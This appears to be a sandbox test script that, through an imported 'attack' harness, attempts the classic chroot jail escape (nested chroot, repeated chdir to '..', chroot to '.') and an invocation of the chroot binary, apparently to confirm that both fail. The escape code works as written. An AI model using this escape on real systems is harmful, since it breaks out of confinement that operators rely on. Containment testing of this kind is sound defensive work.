"""chroot into exp/, then the classic escape: chdir up past the jail and chroot there."""
import os
import subprocess

from attack import A


def escape():
    os.makedirs("jail/inner", exist_ok=True)
    os.chroot("jail")
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return os.listdir("/")


def program():
    p = subprocess.run(["/usr/sbin/chroot", ".", "/bin/true"], capture_output=True, text=True)
    if p.returncode != 0:
        raise PermissionError(1, "chroot program: " + p.stderr.strip()[:200])


A.attempt("chroot_escape", escape)
A.attempt("chroot_program", program)
A.finish(reraise="chroot_escape")
